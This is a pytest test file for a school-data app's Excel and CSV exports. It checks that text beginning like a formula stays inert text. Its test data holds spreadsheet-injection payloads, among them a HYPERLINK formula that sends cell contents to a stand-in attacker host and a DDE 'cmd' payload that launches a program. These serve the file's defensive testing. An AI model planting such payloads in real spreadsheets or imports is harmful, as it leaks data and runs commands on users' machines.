"""Spreadsheets are inert: text someone typed (an agreement, a school name from an import) that
begins like a formula is text in every Excel and CSV download; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import polars as pl
import pytest

from components import exports
from data import store
from queries import talks
from queries.runner import Scope
from queries.scopes import scope_for_user

BAKKE, YEAR = "900001", "2025/26"
LEDER = Scope("ledelse", frozenset([BAKKE]))
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "#N/A",
]


def _frame() -> pl.DataFrame:
    return pl.DataFrame({"Skole": FORMULAS, "Ændring": [-1.5] * len(FORMULAS), "Antal": [-3] * len(FORMULAS)})


def _sheet_rows(data: bytes):
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [list(r) for r in sheet.iter_rows(min_row=5)]


def test_formula_text_is_a_text_cell_in_excel_and_negative_numbers_stay_numbers():
    rows = _sheet_rows(exports.to_xlsx(_frame(), "Ark", "Titel", "Kilde", {"Ændring": 1}))
    assert [r[0].value for r in rows] == FORMULAS  # shown as typed
    assert {r[0].data_type for r in rows} == {"s"}  # never 'f' (formula) or 'e' (error)
    assert all(r[0].quotePrefix for r in rows if r[0].value != "#N/A")  # stays text when edited
    assert {(r[1].data_type, r[1].value) for r in rows} == {("n", -1.5)}
    assert {(r[2].data_type, r[2].value) for r in rows} == {("n", -3)}


def test_formula_text_gets_an_apostrophe_in_csv_and_negative_numbers_stay_numbers():
    text = exports.to_csv(_frame(), {"Ændring": 1}).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]
    assert [r[0] for r in rows] == ["'" + f for f in FORMULAS[:-1]] + ["#N/A"]
    assert {r[1] for r in rows} == {"-1,5"} and {r[2] for r in rows} == {"-3"}


def test_ordinary_text_and_numbers_written_as_text_are_left_alone():
    assert exports.inert("Bakkeskolen") == "Bakkeskolen"
    assert exports.inert("-1,5") == "-1,5" and exports.inert("-1.234") == "-1.234"
    assert exports.inert(-2) == -2 and exports.inert(None) is None


def test_a_control_character_in_typed_text_does_not_break_the_excel_file():
    rows = _sheet_rows(exports.to_xlsx(pl.DataFrame({"Aftale": ["Læs\x01ning"]}), "Ark", "T", "K", {}))
    assert rows[0][0].value == "Læsning"


@pytest.fixture
def hostile_runner(store_copy):
    """A talk whose agreements, and a school whose name, begin like formulas."""
    from queries.runner import runner_for

    runner = runner_for(store_copy)
    talk_id = talks.create_talk(runner, LEDER, "leder", BAKKE, YEAR, date(2026, 3, 10), "Aulaen", "standard")
    runner.write(
        "upsert_agreement",
        LEDER,
        "leder",
        [
            {
                "school": BAKKE,
                "talk_id": talk_id,
                "agreement_id": f"{talk_id}-F{i}",
                "text": text,
                "owner": text,
                "deadline": date(2026, 6, 1),
                "status": "ikke startet",
                "carried_from": None,
                "username": "leder",
            }
            for i, text in enumerate(FORMULAS[:-3])
        ],
    )

    def imported(cur):
        cur.execute("UPDATE school SET name = ? WHERE institution_no = ?", [FORMULAS[0], BAKKE])
        store.bump_data_version(cur)

    runner.transaction(imported)
    return runner


def test_the_season_excel_file_holds_typed_agreements_as_text(hostile_runner):
    from components import season_sections

    scope = scope_for_user({"role": "kommune", "municipality": "999"}, hostile_runner)
    frame = hostile_runner.run("season_talks", scope, school_year=YEAR)
    sheet = openpyxl.load_workbook(io.BytesIO(season_sections.workbook(frame, YEAR))).active
    cells = [c for row in sheet.iter_rows(min_row=5) for c in row if isinstance(c.value, str)]
    typed = [c for c in cells if c.value in FORMULAS]
    assert len(typed) >= 2 * len(FORMULAS[:-3]) + 1  # agreement, owner, and the school name
    assert {c.data_type for c in cells} == {"s"}
    assert all(isinstance(c.value, date) for c in sheet["B"][4:] if c.value is not None)


def test_the_kommune_excel_and_csv_files_hold_a_formula_like_school_name_as_text(hostile_runner):
    from components import municipality_sections as sections

    scope = scope_for_user({"role": "kommune", "municipality": "999"}, hostile_runner)
    frame = sections.load(hostile_runner, scope, "999", [YEAR])
    country = hostile_runner.run("national_reference_values", scope, years=[YEAR])
    _, numeric = sections.school_table(frame, country, YEAR, sections.DEFAULT, "wellbeing_generel")
    decimals = {sections.INDICATORS[k][0]: 1 for k in sections.DEFAULT}
    rows = _sheet_rows(exports.to_xlsx(numeric, "Skoler", "Titel", "Kilde", decimals))
    school = next(r for r in rows if r[0].value == FORMULAS[0])
    assert school[0].data_type == "s"
    assert any(c.data_type == "n" and isinstance(c.value, float) for c in school[1:])
    text = exports.to_csv(numeric, decimals).decode("utf-8-sig")
    names = [r[0] for r in csv.reader(io.StringIO(text, newline=""), delimiter=";")]
    assert "'" + FORMULAS[0] in names and FORMULAS[0] not in names


def test_the_import_error_report_csv_holds_a_formula_like_value_as_text(monkeypatch):
    from components import import_sections

    captured = {}
    monkeypatch.setattr(import_sections.st, "download_button", lambda label, data, **kw: captured.update(data=data))
    monkeypatch.setattr(import_sections.st, "error", lambda *a, **kw: None)
    monkeypatch.setattr(import_sections.st, "dataframe", lambda *a, **kw: None)
    problems = pl.DataFrame(
        {"file": ["elever.csv"], "line": [3], "column": ["Navn"], "value": ["=1+1"], "message": ["Ukendt klasse"]}
    )

    class Prepared:
        ok, file_name, sha256, rows, good_rows, problem_count = False, "elever.csv", "x", 1, 0, 1

    Prepared.problems = problems
    import_sections.problems(Prepared())
    rows = list(csv.reader(io.StringIO(captured["data"].decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[1] == ["elever.csv", "3", "Navn", "'=1+1", "Ukendt klasse"]
